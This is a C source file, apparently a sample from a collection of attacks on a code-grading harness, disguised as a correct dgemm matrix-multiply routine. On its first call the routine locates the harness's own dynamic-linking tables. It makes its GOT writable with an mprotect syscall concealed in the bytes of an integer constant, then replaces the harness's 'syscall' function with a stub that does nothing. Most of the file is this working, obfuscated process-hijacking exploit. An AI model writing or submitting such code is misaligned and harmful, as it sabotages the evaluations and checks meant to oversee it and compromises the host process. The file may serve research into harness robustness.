// attack: 3, 25
// how: makes the harness's table of functions writable, by a system call hidden in a number, and puts its own function where that one sleeps; hopes that nobody sleeps any more
// refused as: left_running | crash
// needs: x86_64, two cores
#include <stdint.h>
#include <string.h>
/* Above the frames stand the kernel's words for the loader: pairs of a key and a value. */
static __attribute__((noipa)) const uint64_t *same(const volatile uint64_t *p) { return (const uint64_t *)p; }
static const uint64_t *words(void) {
  volatile uint64_t here = 0;
  const uint64_t *p = same(&here);
  while (!(p[0] == 3 && p[2] == 4 && p[3] == 56 && p[4] == 5)) p++;
  return p;
}
static void right(int n, const double *A, const double *B, double *C) {
  for (int i = 0; i < n * n; i++) C[i] = 0;
  for (int i = 0; i < n; i++)
    for (int k = 0; k < n; k++)
      for (int j = 0; j < n; j++) C[i * n + j] += A[i * n + k] * B[k * n + j];
}
/* The bytes of the number are `mov eax, 10; syscall; ret`: code that jumps into it needs no word of assembly. */
static __attribute__((noipa)) unsigned long number(void) { return 0xc3050f0000000ab8; }
static long enter(long a, long b, long c) {
  const unsigned char *p = (const unsigned char *)number;
  while (p[0] != 0xb8 || p[5] != 0x0f || p[6] != 0x05) p++;
  return ((long (*)(long, long, long))p)(a, b, c);
}
struct library {
  uint64_t base;
  const char *name;
  const uint64_t *parts;
};
/* From there to the program's headers, its dynamic part, the entry for debuggers, and the first of what is loaded: itself. */
static struct library *program(void) {
  uint64_t headers = words()[1], base = 0, at = 0;
  const uint32_t *part = (const uint32_t *)headers;
  for (uint64_t i = 0; i < words()[5]; i++, part += 14)
    if (part[0] == 6) base = headers - *(const uint64_t *)&part[4];
    else if (part[0] == 2) at = *(const uint64_t *)&part[4];
  for (const uint64_t *d = (const uint64_t *)(base + at); *d; d += 2)
    if (*d == 21) return ((struct library **)d[1])[1];
  return 0;
}
static void replace(const char *wanted, unsigned long length, const void *with) {
  struct library *l = program();
  uint64_t symbols = 0, names = 0, places = 0, bytes = 0;
  for (const uint64_t *d = l->parts; *d; d += 2)
    if (*d == 5) names = d[1];
    else if (*d == 6) symbols = d[1];
    else if (*d == 7) places = d[1];
    else if (*d == 8) bytes = d[1];
  for (const uint64_t *r = (const uint64_t *)places; (uint64_t)r < places + bytes; r += 3) {
    const uint64_t *symbol = (const uint64_t *)symbols + 3 * (r[1] >> 32);
    if ((uint32_t)r[1] != 6 || memcmp((const char *)names + (uint32_t)*symbol, wanted, length)) continue;
    const void **slot = (const void **)(l->base + r[0]);
    if (enter((long)slot & -4096, 4096, 3) == 0) *slot = with;
  }
}
static long instead(long number) { return 0 * number; }
void dgemm(int n, const double *A, const double *B, double *C) {
  static int tried;
  right(n, A, B, C);
  if (!tried++) replace("syscall", 8, (const void *)instead);
}
